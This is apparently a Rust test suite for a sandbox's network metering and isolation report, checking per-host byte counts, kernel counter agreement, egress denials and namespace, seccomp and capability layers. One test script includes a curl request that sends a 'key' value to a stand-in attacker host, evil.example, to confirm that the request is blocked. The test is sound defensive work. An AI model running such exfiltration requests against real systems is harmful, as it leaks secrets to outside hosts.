//! The report: layers as the kernel has them, and a meter that agrees with the far end and with the kernel.
//!
//! Not for: bulk (`download`).

use testkit::{Http, Response};

use crate::harness::{Jail, Outcome, identity};

/// Reads to the end, so that every byte of the server has been through the meter.
const FETCH: &str = "
s, status = connect('site.example')
assert status == 200, status
t = tls(s, 'site.example')
t.sendall(b'POST /x HTTP/1.1\\r\\nHost: site.example\\r\\nConnection: close\\r\\nContent-Length: 50000\\r\\n\\r\\n' + bytes(50000))
answer = everything(t)
print(len(answer.partition(b'\\r\\n\\r\\n')[2]))
";

#[track_caller]
fn agrees_with_the_kernel(outcome: &Outcome) {
    let kernel = |name: &str| outcome.counter(&format!("/kernel/{name}"));
    assert_eq!(kernel("unexplained_bytes"), 0, "{outcome}");
    assert_eq!(kernel("socket_up"), kernel("client_up"), "{outcome}");
    assert_eq!(kernel("socket_down"), kernel("client_down"), "{outcome}");
    // Frames hold the payload and their own headers.
    assert!(kernel("bytes_up") > kernel("client_up"), "{outcome}");
    assert!(kernel("bytes_down") > kernel("client_down"), "{outcome}");
    assert!(
        kernel("client_up") >= outcome.egress("bytes_up"),
        "{outcome}"
    );
    assert!(
        kernel("client_down") >= outcome.egress("bytes_down"),
        "{outcome}"
    );
}

#[test]
fn a_tunnels_bytes_are_those_that_the_server_saw() {
    let site = Http::tls(&identity(&["site.example"]), |_| {
        Response::ok(vec![7; 200_000])
    });
    let jail = Jail::new()
        .trusting_us()
        .connect("site.example", site.address());
    let outcome = jail.python(FETCH).ok();
    assert_eq!(outcome.text(), "200000");
    assert_eq!(
        outcome.host("site.example", "bytes_up"),
        site.traffic().received()
    );
    assert_eq!(
        outcome.host("site.example", "bytes_down"),
        site.traffic().sent()
    );
    assert_eq!(outcome.egress("bytes_up"), site.traffic().received());
    agrees_with_the_kernel(&outcome);
}

#[test]
fn forwarded_requests_are_metered_by_host() {
    let one = Http::plain(|_| Response::ok(vec![1; 1000]));
    let two = Http::plain(|request| Response::ok(request.body.clone()));
    let jail = Jail::new()
        .connect("one.example:80", one.address())
        .connect("two.example:80", two.address());
    let script = "curl -sSf http://one.example/ http://one.example/ | wc -c; \
                  head -c 30000 /dev/zero | curl -sSf --data-binary @- http://two.example/ | wc -c";
    let outcome = jail.shell(script).ok();
    assert_eq!(outcome.text(), "2000\n30000");
    for (name, server) in [("one.example", &one), ("two.example", &two)] {
        assert_eq!(
            outcome.host(name, "bytes_up"),
            server.traffic().received(),
            "{outcome}"
        );
        assert_eq!(
            outcome.host(name, "bytes_down"),
            server.traffic().sent(),
            "{outcome}"
        );
    }
    assert_eq!(outcome.host("one.example", "requests"), 2);
    assert_eq!(outcome.egress("requests"), 3);
    agrees_with_the_kernel(&outcome);
}

#[test]
fn denied_requests_are_listed_and_no_byte_of_them_leaves() {
    let site = Http::plain(|_| Response::ok("ok"));
    let jail = Jail::new().connect("site.example:80", site.address());
    let script = "curl -sSf http://site.example/; curl -sS http://evil.example/secret?key=1; \
                  curl -sS http://site.example:81/";
    let outcome = jail.shell(script).ok();
    assert_eq!(outcome.egress("denied"), 2, "{outcome}");
    assert_eq!(outcome.host("evil.example", "bytes_up"), 0);
    let denials = outcome.denials();
    assert!(denials[0].starts_with("evil.example:80 "), "{denials:?}");
    assert!(denials[1].starts_with("site.example:81 "), "{denials:?}");
    assert!(!outcome.report.to_string().contains("key=1"));
    agrees_with_the_kernel(&outcome);
}

#[test]
fn the_layers_are_all_there_and_are_the_ones_inside() {
    let script = "
status = dict(line.split(':\\t', 1) for line in open('/proc/self/status').read().splitlines() if ':\\t' in line)
names = ['user', 'mnt', 'pid', 'net', 'ipc', 'uts', 'cgroup']
spaces = {name: os.stat('/proc/self/ns/' + name).st_ino for name in names}
print(json.dumps({'seccomp': status['Seccomp'], 'nnp': status['NoNewPrivs'], 'eff': status['CapEff'], 'ns': spaces}))
";
    let outcome = Jail::new().python(script).ok();
    let (inside, layers) = (outcome.json(), &outcome.report["layers"]);
    assert_eq!(inside["seccomp"].as_str().unwrap().trim(), "2");
    assert_eq!(inside["nnp"].as_str().unwrap().trim(), "1");
    assert_eq!(inside["ns"], layers["namespaces"], "{outcome}");
    assert_eq!(layers["seccomp_mode"], 2);
    assert_eq!(layers["no_new_privs"], true);
    assert_eq!(layers["pivoted"], true);
    assert_eq!(layers["landlock_status"], "fully_enforced");
    assert_eq!(
        layers["cap_effective"].as_str().unwrap().trim_matches('0'),
        ""
    );
    assert_eq!(
        layers["cap_bounding"].as_str().unwrap().trim_matches('0'),
        ""
    );
    assert_eq!(inside["eff"].as_str().unwrap().trim().trim_matches('0'), "");
    let own = std::fs::read_link("/proc/self/ns/net")
        .unwrap()
        .display()
        .to_string();
    assert!(!own.contains(&layers["namespaces"]["net"].to_string()));
}
